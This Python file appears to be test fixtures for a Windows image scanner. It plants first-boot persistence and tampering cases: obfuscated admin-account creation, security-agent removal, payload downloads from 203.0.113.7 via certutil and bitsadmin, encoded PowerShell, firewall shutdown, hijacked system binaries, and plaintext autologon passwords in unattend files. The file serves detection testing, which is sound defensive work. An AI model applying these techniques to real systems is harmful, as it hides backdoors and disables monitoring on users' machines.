"""What runs at the first start: scripts of setup, answer files, sysprep."""
import datetime
import os
import struct

from windows_disk import *

change = Changes()
CHECK, SYSPREP, LEAK = 'WIN-PERSIST-001', 'WIN-SYSPREP-001', 'WIN-LEAK-001'
CLOUD, SECURITY, MONITOR = 'WIN-CBI-001', 'WIN-AGENT-001', 'WIN-AGENT-002'
COMPLETE = r'Windows\Setup\Scripts\SetupComplete.cmd'
# What the demonstration's own script does.
USUAL = 'sc config cloudbase-init start= auto && net start cloudbase-init\r\n'
EVIL = 'net user hax P@ss.2024 /add\r\n'
PAYLOAD = r'C:\ProgramData\x.exe'


def script(name, why, text, check=CHECK, place='SetupComplete.cmd'):
    """More lines of SetupComplete.cmd, which setup runs as LocalSystem before the first logon."""
    change.row(name, why, check, place, lambda d: d.put(COMPLETE, USUAL + text))


script('account-by-an-escaped-name', 'cmd.exe takes ^ out of a line before it runs it.', 'n^et us^er hax P@ss /a^dd\r\n')
script('account-by-variables', 'Variables are put in before the line runs.', 'set a=us\r\nset b=er\r\nnet %a%%b% hax P /add\r\n')
script('account-behind-a-jump', 'goto leads over the end of the script and back.', 'goto x\r\n:y\r\nrem\r\nexit /b\r\n:x\r\nnet localgroup Administrators hax /add\r\ngoto y\r\n')
script('services-deleted-in-a-loop', 'for runs its line for each word of the list.', 'for %%s in (cloudbase-init WinAgent) do sc delete %%s\r\n', SECURITY)
script('agent-stopped-by-its-display-name', 'net stop takes display names.', 'net stop "WinAgent Display Name"\r\n', SECURITY)
script('agent-disabled-in-the-registry', 'Start 4 is disabled, whoever writes it.',
       'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinAgent /v Start /t REG_DWORD /d 4 /f\r\n', SECURITY)
script('agent-killed', 'taskkill /f ends a process that does not listen.', 'taskkill /f /im winagent.exe\r\n', SECURITY)
script('agent-removed', 'rd /s takes the folder with all that is in it.', 'rd /s /q C:\\win-agent\r\n', MONITOR)
script('script-written-by-the-script', 'What echo writes into a file is run by the next line.',
       'echo net user hax P /add> C:\\Windows\\Temp\\a.cmd\r\ncall C:\\Windows\\Temp\\a.cmd\r\n')
script('script-through-a-pipe', 'cmd.exe runs lines of its input.', 'echo net user hax P /add| cmd\r\n')
script('account-by-delayed-expansion', 'With delayed expansion !a! is put in when the line runs.', 'setlocal enabledelayedexpansion\r\nset a=net user hax P /add\r\n!a!\r\n')
script('program-started-aside', 'start runs a program and does not wait.', f'start "" /b {PAYLOAD}\r\n')
script('script-of-another-disk', 'Whatever medium is there when the machine starts gives the script.', 'for %%d in (D E F) do if exist %%d:\\x.cmd call %%d:\\x.cmd\r\n')
script('signatures-switched-off', 'bcdedit writes the boot configuration of the running system.', 'bcdedit /set testsigning on\r\n')
script('account-enabled-by-wmi', 'wmic changes accounts as net does.', 'wmic useraccount where name="x" set disabled=false\r\n')
script('driver-by-the-script', 'sc create with type= kernel makes a driver that starts with the system.',
       'sc create evil type= kernel start= boot binPath= C:\\ProgramData\\x\\evil.sys\r\n')
script('payload-fetched', 'certutil -urlcache writes what it fetches.', f'certutil -urlcache -f http://203.0.113.7/x {PAYLOAD}\r\n{PAYLOAD}\r\n')
script('payload-fetched-by-bits', 'bitsadmin fetches a file.', f'bitsadmin /transfer x http://203.0.113.7/x {PAYLOAD}\r\n{PAYLOAD}\r\n')
script('task-by-the-script', 'schtasks registers a task of LocalSystem.', f'schtasks /create /tn upd /tr {PAYLOAD} /sc onstart /ru SYSTEM\r\n')
script('autostart-by-the-script', 'reg add writes the key Run.', f'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d {PAYLOAD}\r\n')
script('encoded-command', 'PowerShell takes its script in base64; any beginning of -EncodedCommand will do.', 'powershell -nop -e SQBFAFgAIAAoAGkAdwByACAAeAApAA==\r\n')
script('firewall-opened', 'netsh lets everybody in.', 'netsh advfirewall set allprofiles state off\r\n')
def stand_in(name, why, path, line, data=None):
    """Another file answers to the name of a program of Windows whose commands are usual."""
    change.row(name, why, CHECK, 'SetupComplete.cmd', lambda d: (d.put(path, data) if data else d.foreign(path), d.put(COMPLETE, USUAL + line + '\r\n')))


stand_in('usual-command-of-another-folder', 'A path decides, not the name behind it.', r'C:\ProgramData\x\lodctr.exe', r'C:\ProgramData\x\lodctr.exe /r')
stand_in('stand-in-for-a-message', 'PATHEXT takes .com before .exe.', r'C:\Windows\System32\msg.com', 'msg * hello')
stand_in('script-in-place-of-counters', 'A script in the folder of the setup\'s scripts is found where that is the current one.',
         r'C:\Windows\Setup\Scripts\lodctr.cmd', 'lodctr /r', EVIL)
stand_in('stand-in-for-the-remote-management', 'winrm is a .cmd: PATHEXT takes .exe before it.', r'C:\Windows\System32\winrm.exe', 'winrm quickconfig -q')
stand_in('stand-in-for-the-activation', 'slmgr is a .vbs: PATHEXT takes .exe before it.', r'C:\Windows\System32\slmgr.exe', 'slmgr /ato')
script('remote-management-in-clear', 'Passwords go over the network as they are.', 'winrm set winrm/config/service/auth @{Basic="true"}\r\n'
       'winrm set winrm/config/service @{AllowUnencrypted="true"}\r\n')
script('port-of-file-shares-opened', 'The name of a rule says nothing of what it opens.',
       'netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=445\r\n')
script('feature-of-another-medium', 'dism takes a feature from the folder that it is told of.', 'dism /online /enable-feature /featurename:NetFx3 /source:C:\\ProgramData\\x\r\n')
change.row('cloudbase-disabled', 'The script that should start the services disables them.', CLOUD, 'SetupComplete.cmd',
           lambda d: d.put(COMPLETE, 'sc config cloudbase-init start= disabled\r\nsc config win-agent start= disabled\r\n'))


@change(CHECK, 'b.ps1')
def scripts_of_scripts(d):
    """A script calls a script that runs a third one; PowerShell takes ` out of a word."""
    d.put(COMPLETE, USUAL + 'cmd /c C:\\ProgramData\\a.bat\r\n')
    d.put(r'ProgramData\a.bat', 'powershell -ep bypass -File "%~dp0b.ps1"\r\n')
    d.put(r'ProgramData\b.ps1', 'ne`t us`er hax P /add\r\n')


def file(name, why, path, text, check=CHECK, place=None):
    change.row(name, why, check, place or path.rpartition('\\')[2], lambda d: d.put(path, text))


file('handler-of-errors', 'Setup runs ErrorHandler.cmd where something fails.', r'Windows\Setup\Scripts\ErrorHandler.cmd', EVIL)
file('script-of-the-welcome', 'Setup runs OOBE.cmd beside SetupComplete.cmd.', r'Windows\Setup\Scripts\OOBE.cmd', 'powershell -enc SQBFAFgA\r\n')

# --- the key Setup ---
change.row('command-of-the-first-boot', 'windeploy.exe runs the values of FirstBoot.', CHECK, 'FirstBoot', lambda d: d.system(r'Setup\FirstBoot\PostOobe', 'x', SZ, PAYLOAD))
change.row('command-of-respecialize', 'windeploy.exe runs RespecializeCmdLine.', CHECK, 'RespecializeCmdLine', lambda d: d.system('Setup', 'RespecializeCmdLine', SZ, PAYLOAD))
change.row('command-line-with-a-second-command', 'winlogon.exe runs CmdLine: cmd.exe does both.', SYSPREP, 'CmdLine',
           lambda d: d.system('Setup', 'CmdLine', SZ, r'cmd /c C:\x.exe & oobe\windeploy.exe'))


@change(SYSPREP, 'CmdLine')
def command_line_of_a_decoy(d):
    """Another program of the usual name, elsewhere."""
    d.foreign(r'Windows\Temp\windeploy.exe')
    d.system('Setup', 'CmdLine', SZ, r'C:\Windows\Temp\windeploy.exe')


change.row('windeploy-replaced', 'What CmdLine names is started as LocalSystem, whoever made it.', SYSPREP, 'windeploy.exe',
           lambda d: d.foreign(r'Windows\System32\oobe\windeploy.exe'))


@change(SYSPREP, 'CmdLine')
def setup_of_another_kind(d):
    """setup.exe of System32, with options, as another version's setup was started."""
    d.foreign(r'Windows\System32\setup.exe')
    d.system('Setup', 'CmdLine', SZ, r'setup -newsetup -x:C:\Windows\Temp\x.exe')


@change(SYSPREP, 'InstallDate')
def signs_of_sysprep_forged(d):
    """A system in use whose signs a script wrote: it was installed after the run that is said to have generalized it."""
    at = datetime.datetime(2017, 7, 14).timestamp()
    os.utime(d.find(r'Windows\System32\Sysprep\Sysprep_succeeded.tag'), (at, at))
    d.software(NT, 'InstallDate', DWORD, 1790000000)
    d.system(r'Setup\Status\SysprepStatus', 'GeneralizationState', DWORD, 7)
    d.software(r'Microsoft\Cryptography', 'MachineGuid', SZ, '01234567-89ab-cdef-0123-456789abcdef')
    d.system('MountedDevices', r'\DosDevices\C:', BINARY, struct.pack('<IQ', SIGNATURE, START))


# --- answer files ---
def answers(oobe='', specialize=''):
    def part(name, component, inside):
        return f'<settings pass="{name}"><component name="{component}">{inside}</component></settings>' if inside else ''
    return ('<?xml version="1.0"?><unattend xmlns="urn:schemas-microsoft-com:unattend">' + part('oobeSystem', 'Microsoft-Windows-Shell-Setup', oobe)
            + part('specialize', 'Microsoft-Windows-Deployment', specialize) + '</unattend>')


LOGON = '<FirstLogonCommands><SynchronousCommand><Order>1</Order><CommandLine>powershell -enc SQBFAFgA</CommandLine></SynchronousCommand></FirstLogonCommands>'
SPECIALIZE = '<RunSynchronous><RunSynchronousCommand><Order>1</Order><Path>cmd /c net user hax P@ss.2024 /add</Path></RunSynchronousCommand></RunSynchronous>'
PASSWORD = ('<AutoLogon><Enabled>true</Enabled><Username>Administrator</Username><Password><Value>Sup3r.Secret</Value><PlainText>true</PlainText></Password>'
            '</AutoLogon>')
COMMANDS = answers(LOGON, SPECIALIZE)
file('commands-of-an-answer-file', 'Setup looks for answers in Panther; commands of the pass specialize run as LocalSystem.', r'Windows\Panther\unattend.xml', COMMANDS)
file('answers-of-the-recovery', 'A reset of the system takes the answers of AutoApply.', r'Recovery\AutoApply\unattend.xml', COMMANDS)
file('answers-in-utf-16', 'XML in UTF-16 is as good.', r'Windows\Panther\Unattend\unattend.xml', '\ufeff'.encode('utf-16-le') + COMMANDS.encode('utf-16-le'))
file('account-of-an-answer-file', 'LocalAccounts makes accounts, here an administrator; setup looks in the root of the drive too.', 'unattend.xml', answers(
    '<UserAccounts><LocalAccounts><LocalAccount><Name>hax</Name><Group>Administrators</Group></LocalAccount></LocalAccounts></UserAccounts>'))
file('password-in-an-answer-file', 'The password of the logon stands there in plain text for every user of the machine.', r'Windows\Panther\unattend.xml', answers(PASSWORD), LEAK)
file('password-in-the-cached-answers', 'UnattendGC holds the answers of the pass generalize.', r'Windows\Panther\UnattendGC\unattend.xml', answers(PASSWORD), LEAK)


@change(LEAK, 'answers.xml')
def password_in_named_answers(d):
    """The value UnattendFile of the key Setup names the answers that count first."""
    d.system('Setup', 'UnattendFile', SZ, d.put(r'C:\ProgramData\x\answers.xml', answers(PASSWORD)))


# --- modules of sysprep ---
@change(CHECK, 'evil.dll')
def module_of_sysprep(d):
    """Action files name libraries and functions that sysprep calls in each pass."""
    library = d.foreign(r'C:\Windows\System32\evil.dll')
    d.put(r'Windows\System32\Sysprep\ActionFiles\Specialize.xml', '<?xml version="1.0"?><sysprepInformation><imaging exclude=""><assemblyIdentity name="x"/>'
          f'<sysprepOrder order="1"/><sysprepModule methodName="a" moduleName="{library}"/></imaging></sysprepInformation>')


@change(CHECK, 'evil.dll')
def module_of_sysprep_in_the_registry(d):
    """SysPrepExternal names further modules."""
    d.software(rf'{CURRENT}\Setup\SysPrepExternal\Specialize', 'x', SZ, d.foreign(r'C:\Windows\System32\evil.dll') + ',Go')
